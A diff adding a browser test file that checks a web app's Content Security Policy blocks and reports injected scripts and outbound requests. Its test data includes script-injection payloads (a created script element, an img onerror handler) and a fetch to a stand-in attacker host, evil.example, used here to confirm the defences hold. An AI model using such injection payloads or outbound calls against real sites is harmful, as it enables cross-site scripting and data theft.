@@ -1,0 +1,76 @@
+"""The browser itself watches that nothing but our own scripts runs, and tells us when it stopped something."""
+
+from __future__ import annotations
+
+import logging
+
+import pytest
+
+from tests.browser.people import sign_in
+from tests.browser.test_every_page_is_accessible import ROLES, pages_beside, pages_of_a_file
+
+
+@pytest.fixture
+def told(caplog):
+    """What browsers have reported so far."""
+    caplog.set_level(logging.WARNING, logger="paku.csp")
+    return lambda: [line for line in caplog.messages if "content policy" in line]
+
+
+def test_no_page_of_any_role_breaks_it(world, browser, told):
+    seen = 0
+    for name, pages in {
+        **ROLES,
+        "tyontekija": pages_of_a_file(),
+        "jarjesto": pages_beside(),
+    }.items():
+        person = sign_in(browser, world, name)
+        for address in pages:
+            assert person.go(address) == 200, (name, address)
+            person.page.wait_for_load_state("networkidle")
+            seen += 1
+        assert person.page.complaints == []
+        person.page.context.close()
+
+    assert seen > 30
+    assert told() == []
+
+
+@pytest.mark.parametrize(
+    ("injected", "rule"),
+    [
+        ("const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
+         "script-src-elem"),
+        ("document.body.insertAdjacentHTML('beforeend', '<img src=/none onerror=\"window.ran = 1\">')",
+         "script-src-attr"),
+        ("const s = document.createElement('script'); s.src = '/static/none.js'; document.body.append(s)",
+         "script-src-elem"),
+    ],
+)  # fmt: skip
+def test_an_injected_script_does_not_run_and_is_reported_once(
+    here, worker, path, told, soon, injected, rule
+):
+    page = here.sign_in(worker)
+    page.goto(f"{here.base}/clients/{path.client.ref}/")
+
+    page.evaluate(f"() => {{ {injected} }}")
+
+    soon(told)
+    page.wait_for_load_state("networkidle")
+    (line,) = told()
+    assert rule in line
+    assert line.endswith("on pathways:client")
+    assert str(path.client.ref) not in line
+    assert page.evaluate("window.ran") is None
+
+
+def test_a_page_cannot_be_sent_or_asked_of_elsewhere(here, worker, told, soon):
+    page = here.sign_in(worker)
+
+    asked = page.evaluate(
+        "() => fetch('https://evil.example/?q=1').then(() => 'went', () => 'stopped')"
+    )
+
+    assert asked == "stopped"
+    soon(told)
+    assert told() == ["content policy: connect-src stopped https://evil.example on pathways:home"]
